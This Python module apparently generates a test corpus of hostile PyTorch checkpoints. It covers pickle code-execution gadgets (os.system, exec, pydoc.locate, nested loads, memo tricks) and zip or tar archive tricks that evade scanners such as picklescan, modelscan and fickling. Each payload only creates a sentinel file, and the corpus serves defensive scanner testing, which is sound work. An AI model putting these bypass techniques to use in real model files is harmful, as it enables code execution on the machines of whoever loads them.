"""Generators of hostile checkpoints: every bypass class of issue 11 (and the scanners' histories:
picklescan, modelscan, fickling), each built from scratch so the corpus is data-free and reviewable.

Each payload's only effect is to create the file `sentinel` (a path the caller chooses, in a
temporary directory). Nothing here runs a payload: the corpus is bytes. Only the sandboxed control
test (test_hostile_corpus.py) loads them, in a subprocess whose working directory is a temporary
directory, to prove that the payloads are real.

`PAYLOADS`: name -> (builder of the pickle, whether `torch.load(weights_only=False)` runs it here)
`CONTAINERS`: how a payload is packed (torch zip, legacy stream, raw pickle, tar) and the archive
tricks (duplicate entries, two central directories, case decoys, non-canonical legacy magic).
"""

from __future__ import annotations

import importlib.util
import io
import pickle
import struct
import tarfile
import zlib

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


# --------------------------------------------------------------------------- a tiny pickle assembler
def u(text: str) -> bytes:
    """BINUNICODE."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args): MARK args TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def dct(**items: bytes) -> bytes:
    return b"}(" + b"".join(u(k) + v for k, v in items.items()) + b"u"


def dct_raw(pairs: list[tuple[str, bytes]]) -> bytes:
    return b"}(" + b"".join(u(k) + v for k, v in pairs) + b"u"


def lst(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def integer(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def p2(body: bytes) -> bytes:
    """A protocol-2 pickle of one object."""
    return b"\x80\x02" + body + b"."


def shell(sentinel: str) -> str:
    return f"touch {sentinel}"


def python(sentinel: str) -> str:
    return f"open({sentinel!r}, 'w').close()"


# --------------------------------------------------------------------------- payloads
def os_system(s: str) -> bytes:
    return p2(call(g("os", "system"), u(shell(s))))


def builtins_exec(s: str) -> bytes:
    return p2(call(g("builtins", "exec"), u(python(s))))


def dotted_torch_os_system(s: str) -> bytes:
    # protocol 4 resolves a dotted name attribute by attribute: torch.os.system
    return b"\x80\x04" + u("torch") + u("os.system") + b"\x93" + u(shell(s)) + b"\x85R."


def dotted_builtins_exec(s: str) -> bytes:
    return b"\x80\x04" + u("builtins") + u("print.__self__.exec") + b"\x93" + u(python(s)) + b"\x85R."


def computed_stack_global(s: str) -> bytes:
    # the module name is the result of a call, so no scanner can read it off the opcodes
    return b"\x80\x04" + call(g("builtins", "str"), u("os")) + u("system") + b"\x93" + u(shell(s)) + b"\x85R."


def memo_stack_global(s: str) -> bytes:
    return b"\x80\x04" + u("posix") + b"\x94" + u("system") + b"\x94" + b"h\x00h\x01\x93" + u(shell(s)) + b"\x85R."


def pydoc_locate(s: str) -> bytes:
    return p2(call(call(g("pydoc", "locate"), u("os.system")), u(shell(s))))


def pkgutil_resolve_name(s: str) -> bytes:
    return p2(call(call(g("pkgutil", "resolve_name"), u("os:system")), u(shell(s))))


def doctest_examples(s: str) -> bytes:
    return p2(call(g("doctest", "run_docstring_examples"), u(f">>> {python(s)}\n"), b"}"))


def logging_dict_config(s: str) -> bytes:
    handler = dct_raw([("class", u("logging.FileHandler")), ("filename", u(s))])
    return p2(call(g("logging.config", "dictConfig"), dct_raw([("version", integer(1)),
                                                                ("handlers", dct_raw([("h", handler)]))])))


def logging_file_handler(s: str) -> bytes:
    return p2(call(g("logging", "FileHandler"), u(s)))


def importlib_chain(s: str) -> bytes:
    module = call(g("importlib", "import_module"), u("os"))
    return p2(call(call(g("builtins", "getattr"), module, u("system")), u(shell(s))))


def imp_load_source(s: str) -> bytes:
    # runs the Python file next to the sentinel (the control writes it; an attacker would name any .py)
    return p2(call(g("imp", "load_source"), u("torchdoctor_probe"), u(s + ".py")))


def torch_fx_graph_module(s: str) -> bytes:
    body = dct_raw([("_code", u("def forward(self):\n    return None\n"))])
    return p2(call(g("torch.fx.graph_module", "reduce_graph_module"), body, u(python(s) + "\n")))


def torch_distributed_run(s: str) -> bytes:
    args = lst(u("--standalone"), u("--nproc-per-node=1"), u("--no-python"), u("touch"), u(s))
    return p2(call(g("torch.distributed.run", "main"), args))


def nested_torch_load(s: str) -> bytes:
    return p2(call(g("torch.storage", "_load_from_bytes"), raw(zip_bytes(os_system(s)))))


def nested_pickle_loads(s: str) -> bytes:
    return p2(call(g("pickle", "loads"), raw(os_system(s))))


def inst_protocol0(s: str) -> bytes:
    return b"(S'" + shell(s).encode() + b"'\nios\nsystem\n."


def mailcap_findmatch(s: str) -> bytes:
    caps = dct_raw([("a/b", lst(dct_raw([("test", u(shell(s))), ("view", u("true"))])))])
    return p2(call(g("mailcap", "findmatch"), caps, u("a/b")))


def sqlite_connect(s: str) -> bytes:
    # in no denylist: caught because it is called and is not a data type
    return p2(call(g("sqlite3", "connect"), u(s)))


def reconstructor_base_init(s: str) -> bytes:
    # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state)
    cls = g("sqlite3", "Connection")
    return p2(call(g("copyreg", "_reconstructor"), cls, cls, u(s)))


def build_on_import(s: str) -> bytes:
    # BUILD on an imported object overwrites its attributes (here: a torch module's)
    return p2(g("torch", "serialization") + dct_raw([("DEFAULT_PROTOCOL", integer(4))]) + b"b")


def broken_after_payload(s: str) -> bytes:
    # pickle runs the REDUCE before it reaches the bad byte: a "corrupt" file that still ran code
    return os_system(s)[:-1] + b"\xff\xff"


def odd_first_opcode(s: str) -> bytes:
    # starts with BINFLOAT + POP, not with PROTO or a protocol-0 opening
    return b"G" + struct.pack(">d", 1.0) + b"0" + os_system(s)[2:]


def memo_confusion(s: str) -> bytes:
    # picklescan#14: BINPUT fills memo 0 and 1, MEMOIZE then writes 2 and 3; a scanner that counts
    # only MEMOIZE believes memo 0/1 hold torch._utils/_rebuild_tensor_v2
    return (b"\x80\x04" + u("os") + b"q\x00" + u("system") + b"q\x01" + u("torch._utils") + b"\x94"
            + u("_rebuild_tensor_v2") + b"\x94" + b"0000" + b"h\x00h\x01\x93" + u(shell(s)) + b"\x85R.")


def build_setattr_stack_global(s: str) -> bytes:
    # modelscan#85: BUILD's slot state sets attributes on an imported function, a dotted GLOBAL reads
    # them back, and STACK_GLOBAL takes its module and name from values no opcode argument shows
    target = g("collections", "namedtuple")
    state = b"N" + dct_raw([("a", u("os")), ("b", u("system"))]) + b"\x86"
    return (b"\x80\x04" + target + state + b"b0" + g("collections", "namedtuple.a") + g("collections", "namedtuple.b")
            + b"\x93" + u(shell(s)) + b"\x85R.")


def private_subinterpreter(s: str) -> bytes:
    # fickling GHSA-6ggj-6f2q-f7mx: a private module runs source in a subinterpreter
    return p2(call(g("_xxsubinterpreters", "run_string"), call(g("_xxsubinterpreters", "create")), u(python(s))))


def stdlib_gadget_class(s: str) -> bytes:
    # a standard-library class rebuilt by NEWOBJ + BUILD: no model class lives in the stdlib
    return p2(g("cmd", "Cmd") + b")\x81" + dct_raw([("prompt", u(shell(s)))]) + b"b")


def inside_state_dict(s: str) -> bytes:
    return p2(dct_raw([("weight", integer(0)), ("hook", call(g("os", "system"), u(shell(s))))]))


PAYLOADS = {
    "os-system": (os_system, True),
    "builtins-exec": (builtins_exec, True),
    "dotted-torch-os-system": (dotted_torch_os_system, True),
    "dotted-builtins-print-self-exec": (dotted_builtins_exec, True),
    "computed-stack-global": (computed_stack_global, True),
    "memo-stack-global": (memo_stack_global, True),
    "pydoc-locate": (pydoc_locate, True),
    "pkgutil-resolve-name": (pkgutil_resolve_name, True),
    "doctest-run-docstring-examples": (doctest_examples, True),
    "logging-config-dictconfig": (logging_dict_config, True),
    "logging-filehandler": (logging_file_handler, True),
    "importlib-import-module": (importlib_chain, True),
    "imp-load-source": (imp_load_source, True),
    "torch-fx-reduce-graph-module": (torch_fx_graph_module, True),
    # starts an elastic agent that listens on a local port: shown to run by hand, not in the test suite
    "torch-distributed-run": (torch_distributed_run, False),
    "nested-torch-load": (nested_torch_load, True),
    "nested-pickle-loads": (nested_pickle_loads, True),
    "inst-protocol-0": (inst_protocol0, True),
    "mailcap-findmatch": (mailcap_findmatch, True),
    "sqlite3-connect": (sqlite_connect, True),
    "copyreg-reconstructor-base-init": (reconstructor_base_init, True),
    "build-on-imported-module": (build_on_import, False),  # no sentinel: it only corrupts torch's state
    "broken-after-payload": (broken_after_payload, True),
    "odd-first-opcode": (odd_first_opcode, True),
    "inside-a-state-dict": (inside_state_dict, True),
    "memo-confusion": (memo_confusion, True),
    "build-setattr-stack-global": (build_setattr_stack_global, True),
    "private-module-subinterpreter": (private_subinterpreter, importlib.util.find_spec("_xxsubinterpreters") is not None),
    "stdlib-gadget-class": (stdlib_gadget_class, False),  # static: shows the stdlib rule, runs nothing
}


# --------------------------------------------------------------------------- containers
LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"


def _local(name: str, data: bytes, flags: int = 0) -> bytes:
    n = name.encode()
    return struct.pack("<4sHHHHHIIIHH", LOCAL, 20, flags, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                       len(n), 0) + n + data


def _central(name: str, data: bytes, offset: int, flags: int = 0) -> bytes:
    n = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", CENTRAL, 20, 20, flags, 0, 0, 0, zlib.crc32(data), len(data),
                       len(data), len(n), 0, 0, 0, 0, 0, offset) + n


def _end(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", END, 0, 0, count, count, size, offset, 0)


def zip_archive(entries: list[tuple[str, bytes]] | list[tuple[str, bytes, int]], count: int | None = None) -> bytes:
    """A stored zip with exactly these entries, in this order (duplicates allowed); `count` is the
    number of entries the end record claims."""
    body, directory = b"", b""
    for name, data, *flags in entries:
        directory += _central(name, data, len(body), *flags)
        body += _local(name, data, *flags)
    return body + directory + _end(len(entries) if count is None else count, len(directory), len(body))


def zip_bytes(pkl: bytes, name: str = "archive") -> bytes:
    """The records torch.save writes, around this data.pkl."""
    return zip_archive([(f"{name}/data.pkl", pkl), (f"{name}/byteorder", b"little"), (f"{name}/version", b"3\n")])


BENIGN_PKL = pickle.dumps({"weight": [0.0, 1.0]}, protocol=2)


def duplicate_entry(pkl: bytes) -> bytes:
    # torch (miniz) reads the first of two same-named entries, Python's zipfile the last
    return zip_archive([("archive/data.pkl", pkl), ("archive/data.pkl", BENIGN_PKL), ("archive/version", b"3\n")])


def case_decoy(pkl: bytes) -> bytes:
    # torch's lookup ignores case: it loads DATA.PKL; a scanner looking for */data.pkl finds the decoy
    return zip_archive([("archive/DATA.PKL", pkl), ("archive/x/data.pkl", BENIGN_PKL), ("archive/version", b"3\n")])


def case_collision(pkl: bytes) -> bytes:
    return zip_archive([("archive/data.pkl", pkl), ("archive/Data.pkl", BENIGN_PKL), ("archive/version", b"3\n")])


def two_central_directories(pkl: bytes) -> bytes:
    """torch follows the end record's offset to directory 1 (the payload); Python's zipfile reads the
    directory just before the end record (directory 2, a benign data.pkl), shifting its offsets."""
    evil = pkl + b"\x00" * 256  # padding after STOP, so the benign half's offsets stay positive
    first = _local("archive/data.pkl", evil) + _local("archive/version", b"3\n")
    cd1 = _central("archive/data.pkl", evil, 0) + _central("archive/version", b"3\n", 30 + 16 + len(evil))
    c1 = len(first)
    benign_at = c1 + len(cd1)
    second = _local("archive/data.pkl", BENIGN_PKL) + _local("archive/version", b"3\n")
    c2 = benign_at + len(second)
    shift = c2 - c1  # what zipfile adds to every offset in the directory it reads
    cd2 = (_central("archive/data.pkl", BENIGN_PKL, benign_at - shift)
           + _central("archive/version", b"3\n", benign_at + 30 + 16 + len(BENIGN_PKL) - shift))
    assert len(cd1) == len(cd2) and benign_at - shift >= 0
    return first + cd1 + second + cd2 + _end(2, len(cd2), c1)


def legacy(obj: bytes, *, magic: bytes | None = None, sys_info: bytes | None = None,
           keys: bytes | None = None) -> bytes:
    return ((magic if magic is not None else pickle.dumps(LEGACY_MAGIC, protocol=2))
            + pickle.dumps(1001, protocol=2)
            + (sys_info if sys_info is not None else pickle.dumps(SYS_INFO, protocol=2))
            + obj + (keys if keys is not None else pickle.dumps([], protocol=2)))


def legacy_tar(pkl: bytes, views: bytes | None = None) -> bytes:
    """torch 0.1's tar format, which torch.load still tries first: its `pickle` member runs, and so
    does every pickle of its `storages` member (here one float storage of 2 elements, its raw bytes,
    then the storage views: `views`, if given, instead of an empty list)."""
    storage = p2(b"(" + u("0") + u("cpu") + g("torch", "FloatStorage") + b"t")
    storages = (pickle.dumps(1, protocol=2) + storage + struct.pack("<q", 2) + struct.pack("<2f", 1.0, 2.0)
                + (views if views is not None else pickle.dumps([], protocol=2)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("storages", storages), ("tensors", pickle.dumps(0, protocol=2)), ("pickle", pkl)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


CONTAINERS = {
    "zip": zip_bytes,
    "legacy": legacy,
    "raw": lambda pkl: pkl,
}
def bad_crc(pkl: bytes) -> bytes:
    """torch does not check CRC-32 (zipfile refuses the entry): a payload zipfile never shows."""
    data = bytearray(zip_bytes(pkl))
    at = data.index(CENTRAL)
    data[at + 16: at + 20] = b"\0\0\0\0"
    data[14:18] = b"\0\0\0\0"
    return bytes(data)


# The archive tricks, each around the plain os.system payload (torch runs every one of them).
TRICKS = {
    "zip-bad-crc": lambda s: bad_crc(os_system(s)),
    # the end record counts 2 entries (torch reads those); zipfile reads the third, a later data.pkl
    "zip-entry-beyond-the-count": lambda s: zip_archive([("archive/data.pkl", os_system(s)),
                                                         ("archive/version", b"3\n"),
                                                         ("archive/data.pkl", BENIGN_PKL)], count=2),
    # an unreadable (encrypted) candidate first: the others must still be read
    "zip-encrypted-decoy-among-duplicates": lambda s: zip_archive([("archive/data.pkl", BENIGN_PKL, 1),
                                                                   ("archive/data.pkl", BENIGN_PKL),
                                                                   ("archive/data.pkl", os_system(s)),
                                                                   ("archive/version", b"3\n")]),
    "zip-duplicate-data-pkl": lambda s: duplicate_entry(os_system(s)),
    "zip-two-central-directories": lambda s: two_central_directories(os_system(s)),
    "zip-DATA.PKL-case-decoy": lambda s: case_decoy(os_system(s)),
    "zip-case-collision": lambda s: case_collision(os_system(s)),
    "legacy-magic-protocol-4": lambda s: legacy(os_system(s), magic=pickle.dumps(LEGACY_MAGIC, protocol=4)),
    "legacy-magic-protocol-0": lambda s: legacy(os_system(s), magic=pickle.dumps(LEGACY_MAGIC, protocol=0)),
    "legacy-magic-long4": lambda s: legacy(os_system(s), magic=b"\x80\x02\x8b\x0a\x00\x00\x00"
                                           + LEGACY_MAGIC.to_bytes(10, "little") + b"."),
    "legacy-payload-in-sys-info": lambda s: legacy(pickle.dumps({}, protocol=2), sys_info=os_system(s)),
    "legacy-payload-in-storage-keys": lambda s: legacy(pickle.dumps({}, protocol=2), keys=os_system(s)),
    "legacy-payload-in-magic": lambda s: legacy(pickle.dumps({}, protocol=2), magic=os_system(s)),
    "legacy-tar": lambda s: legacy_tar(os_system(s)),
    "legacy-tar-payload-after-storage-data": lambda s: legacy_tar(BENIGN_PKL, views=os_system(s)),
    # "ustar" where a tar header has it, but no valid tar header: torch falls through to the pickle
    "pickle-posing-as-tar": lambda s: os_system(s).ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0"),
}
# Ambiguous archives with no payload at all: an error of their own (TI113), never loaded here.
AMBIGUOUS = {
    "zip-trailing-data": lambda: zip_bytes(BENIGN_PKL) + b"\x00" * 64,
    "zip-encrypted-flag": lambda: zip_archive([("archive/data.pkl", BENIGN_PKL, 1), ("archive/version", b"3\n")]),
}


def corpus(sentinel_for) -> dict[str, tuple[bytes, bool]]:
    """Every hostile file: name -> (bytes, whether torch.load(weights_only=False) runs its payload here).
    `sentinel_for(name)` gives each file its own sentinel path."""
    out: dict[str, tuple[bytes, bool]] = {}
    for payload, (build, runs) in PAYLOADS.items():
        for container, pack in CONTAINERS.items():
            name = f"{container}-{payload}"
            pkl = build(sentinel_for(name))
            if container == "legacy" and payload in ("odd-first-opcode",):
                continue  # the same bytes as raw: legacy streams start with the magic number
            # legacy and zip read the object after the magic number / from data.pkl: the payload still runs
            out[name] = (pack(pkl), runs)
    for name, build in TRICKS.items():
        out[name] = (build(sentinel_for(name)), True)
    for name, build in AMBIGUOUS.items():
        out[name] = (build(), False)
    return out
